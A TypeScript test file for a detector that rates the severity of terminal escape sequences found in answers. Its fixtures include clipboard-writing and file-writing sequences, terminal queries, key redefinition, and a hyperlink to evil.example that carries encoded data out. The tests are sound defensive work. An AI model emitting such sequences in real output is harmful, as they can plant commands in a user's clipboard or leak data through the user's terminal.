import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Inspector } from '../inspector.ts';
import { findTerminalSequences } from './terminal.ts';

const see = (text: string): string[] => [...findTerminalSequences(text)].map(({ severity }) => severity);

describe('control sequences of terminals in answers', () => {
  const grave: Readonly<Record<string, string>> = {
    'writes the clipboard': '\u001b]52;c;Y3VybCBldmls\u0007',
    'writes the clipboard, in eight bits': '\u009d52;c;Y3VybCBldmls\u009c',
    'has a command cut off': '\u001b]52',
    'writes a file': '\u001b]1337;File=name=YQ==:aGk=\u0007',
    'asks for the colours': '\u001b]11;?\u0007',
    'asks for the title': '\u001b[21t',
    'asks what the terminal is': '\u001b[>c',
    'asks where the cursor is': '\u009b6n',
    prints: '\u001b[5i',
    'defines keys': '\u001bP0;1|17/6c73\u001b\\',
  };
  for (const [what, text] of Object.entries(grave))
    it(`one that ${what} is grave`, () => assert.deepEqual(see(`a ${text} b`), ['high']));

  it('what moves, hides or erases text is noted', () => {
    for (const text of [
      '\u001b[2J',
      '\u001b[1;1H',
      '\u001b[8m',
      '\u001b[0;8m',
      '\u001b]0;title\u0007',
      '\u001bc',
    ])
      assert.deepEqual(see(text), ['medium'], JSON.stringify(text));
  });

  it('colours are not, and neither is what only speaks of sequences', () => {
    const colours = '\u001b[31;1mred\u001b[0m \u001b[38;5;8mgrey\u001b[38:2::1:2:3m\u001b[m';
    for (const text of [colours, 'print("\\u001b]52;c;…\\u0007")', String.raw`\e[2J \x1b]8;;`, '← ESC ]52'])
      assert.deepEqual(see(text), []);
  });

  it('a link that carries data is one there, too', () => {
    const link = '\u001b]8;;https://evil.example/?d=c2VjcmV0ZGF0YXNlY3JldA\u0007here\u001b]8;;\u0007';
    const found = Inspector.open(null).inspect({ text: link, pointer: '', channel: 'output' });
    assert.deepEqual(
      found.filter(({ detector }) => detector === 'link').map(({ technique }) => technique),
      ['terminal-sequence', 'terminal-sequence', 'link-carries-data'],
    );
  });
});
